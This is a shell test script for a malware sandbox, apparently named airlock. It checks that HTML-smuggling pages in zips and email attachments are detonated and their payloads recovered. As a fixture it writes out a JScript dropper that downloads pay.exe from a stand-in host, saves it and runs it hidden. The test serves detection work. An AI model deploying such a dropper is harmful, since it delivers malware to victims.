#!/bin/sh
# Pages wherever they arrive: a smuggling page inside a zip, and one attached to a mail message,
# are loaded with --detonate as a page on disk is (analyze takes them out of their container
# inside airlock run --net none and finds them by SHA-256; mail scan loads the decoded
# attachment), caught with T1027.006 and their payload recovered as a child. Static analysis
# alone judges both clean: the pages are of detonate-pages.py's styles that it misses. A zip
# holding a benign page (a CSV export through a Blob) stays clean. A message whose attachments
# the static rules already flag (a smuggling page, a JScript dropper) is detonated too by mail
# scan --detonate: the page's payload and the dropper's behaviour are the evidence.
. "$AIRLOCK_SRC/tests/lib.sh"
. "$AIRLOCK_SRC/tests/helpers/pages-lib.sh"
PY=${PY:-python3}

need_chromium || exit 0

W=$TEST_TMPDIR/mail-pages
mkdir -p "$W/in"
page_corpus "$W"
"$PY" - "$W" <<'PYS' || fail "containers" "python exited with status $?"
import email.message, sys, zipfile
w = sys.argv[1]
z = zipfile.ZipFile(w + "/in/invoice.zip", "w", zipfile.ZIP_DEFLATED)
z.write(w + "/mal/eval-reversed.html", "docs/invoice.html")
z.close()
z = zipfile.ZipFile(w + "/in/prices.zip", "w", zipfile.ZIP_DEFLATED)
z.write(w + "/ben/csv-export.html", "prices.html")
z.close()
m = email.message.EmailMessage()
m["From"] = "billing@example.org"
m["To"] = "user@example.org"
m["Subject"] = "Your statement"
m.set_content("Your statement is attached.\n")
m.add_attachment(open(w + "/mal/rotated-array.html", "rb").read(), maintype="text",
                 subtype="html", filename="statement.html")
open(w + "/in/statement.eml", "wb").write(bytes(m))
m = email.message.EmailMessage()
m["From"] = "billing@example.org"
m["To"] = "user@example.org"
m["Subject"] = "Overdue invoice"
m.set_content("The invoice and the payment tool are attached.\n")
m.add_attachment(open(w + "/mal/xor.html", "rb").read(), maintype="text",
                 subtype="html", filename="overdue.html")
m.add_attachment(b'''var h = new ActiveXObject("MSXML2.XMLHTTP");
h.open("GET", "http://example.invalid/pay.exe", false); h.send();
var s = new ActiveXObject("ADODB.Stream");
s.Open(); s.Type = 1; s.Write(h.ResponseBody); s.SaveToFile("C:\\\\Users\\\\Public\\\\pay.exe", 2);
new ActiveXObject("WScript.Shell").Run("C:\\\\Users\\\\Public\\\\pay.exe", 0);
''', maintype="application", subtype="octet-stream", filename="pay.js")
open(w + "/in/overdue.eml", "wb").write(bytes(m))
PYS
chmod -R a+rX "$W"
# The page folders go to $TMPDIR: this script's own, so that the other phase's do not count.
mkdir -p "$W/tmp"
export TMPDIR="$W/tmp"

"$AIRLOCK" analyze --json "$W/in/invoice.zip" "$W/in/statement.eml" >"$W/static.json" 2>"$W/static.err"
"$AIRLOCK" analyze --detonate --detonate-timeout 40 --json "$W/in/invoice.zip" "$W/in/statement.eml" \
        "$W/in/prices.zip" >"$W/det.json" 2>"$W/det.err"
expect_eq "analyze --detonate: exit status 1" 1 "$?"
"$AIRLOCK" mail scan --detonate --detonate-timeout 40 --json "$W/in/statement.eml" >"$W/mail.json" \
        2>"$W/mail.err"
expect_eq "mail scan --detonate: exit status 1" 1 "$?"
"$AIRLOCK" mail scan --json "$W/in/overdue.eml" >"$W/flagged-static.json" 2>"$W/flagged-static.err"
"$AIRLOCK" mail scan --detonate --detonate-timeout 40 --json "$W/in/overdue.eml" >"$W/flagged.json" \
        2>"$W/flagged.err"
expect_eq "mail scan --detonate of flagged attachments: exit status 1" 1 "$?"

"$PY" - "$W" <<'PYS' || fail "the report check" "python exited with status $?"
import json, sys
w = sys.argv[1]
sha = {l.split()[0]: l.split()[2] for l in open(w + "/manifest")}
def nodes(path):
    try:
        r = json.load(open(path))
    except (OSError, ValueError) as e:
        print("FAIL: report %s: %s" % (path, e))
        return []
    out = []
    def walk(n):
        out.append(n)
        for c in n.get("children", []):
            walk(c)
    for f in r["files"]:
        walk(f)
    return out
def node(ns, name):
    return next((n for n in ns if n["name"] == name), None)
def check(what, ok, why):
    print(("PASS: %s" % what) if ok else ("FAIL: %s: %s" % (what, why)))
def caught(ns, name, page, where):
    n = node(ns, name)
    if n is None:
        check(where, False, "no node %s" % name)
        return
    smug = [f for f in n["findings"] if "T1027.006" in f["attack"] and f["source"] == "detonation"
            and f["rule"] == "browser.html_smuggling"]
    kids = [c for c in n.get("children", []) if c.get("sha256") == sha[page]]
    check(where, n["verdict"] == "malicious" and smug and kids,
          "verdict %s, findings %s, children %s" % (n["verdict"], [f["rule"] for f in n["findings"]],
                                                  [c["name"] for c in n.get("children", [])]))
st, det, mail = nodes(w + "/static.json"), nodes(w + "/det.json"), nodes(w + "/mail.json")
for name in ("invoice.html", "statement.html"):
    n = node(st, name)
    check("static analysis alone judges %s clean" % name, n is not None and n["verdict"] == "clean",
          n and n["verdict"])
caught(det, "invoice.html", "eval-reversed.html",
       "analyze --detonate: the page inside a zip is caught (T1027.006) and its payload recovered")
caught(det, "statement.html", "rotated-array.html",
       "analyze --detonate: the page attached to a message is caught and its payload recovered")
caught(mail, "statement.html", "rotated-array.html",
       "mail scan --detonate: the attached page is caught and its payload recovered")
n = node(det, "prices.html")
check("a benign page inside a zip is loaded and stays clean",
      n is not None and n["verdict"] == "clean" and any(f["rule"] == "browser.loaded" for f in n["findings"]),
      n and [(f["rule"], f.get("evidence")) for f in n["findings"]])
top = [f for f in json.load(open(w + "/det.json"))["files"]
       if f["name"] in ("invoice.zip", "statement.eml")]
# flagged statically, detonated all the same: the page's payload and the dropper's behaviour
fs, fd = nodes(w + "/flagged-static.json"), nodes(w + "/flagged.json")
n = node(fs, "overdue.html")
check("static: the rules flag the attached page, no payload recovered",
      n is not None and n["verdict"] != "clean" and
      not any(c.get("sha256") == sha["xor.html"] for c in n.get("children", [])),
      n and (n["verdict"], [c["name"] for c in n.get("children", [])]))
n = node(fs, "pay.js")
check("static: the rules flag the attached dropper", n is not None and n["verdict"] != "clean",
      n and n["verdict"])
caught(fd, "overdue.html", "xor.html",
       "mail scan --detonate: a page the rules flag is loaded, its payload recovered and judged")
n = node(fd, "pay.js")
d = n and next((f for f in n["findings"] if f["rule"] == "wsh.dropper" and f["source"] == "detonation"), None)
check("mail scan --detonate: a flagged JScript attachment runs in box-js (wsh.dropper, T1105)",
      d is not None and "T1105" in d["attack"] and "pay.exe" in (d.get("evidence") or ""),
      n and [(f["rule"], (f.get("evidence") or "")[:100]) for f in n["findings"]])
check("the containers take the verdict of the page",
      len(top) == 2 and all(n["verdict"] == "malicious" for n in top),
      [(n["name"], n["verdict"]) for n in top])
PYS
leftover=$(ls -A "$W/tmp")
[ -z "$leftover" ] && pass "no page folder left in \$TMPDIR" || fail "page folders left" "$leftover"
exit 0
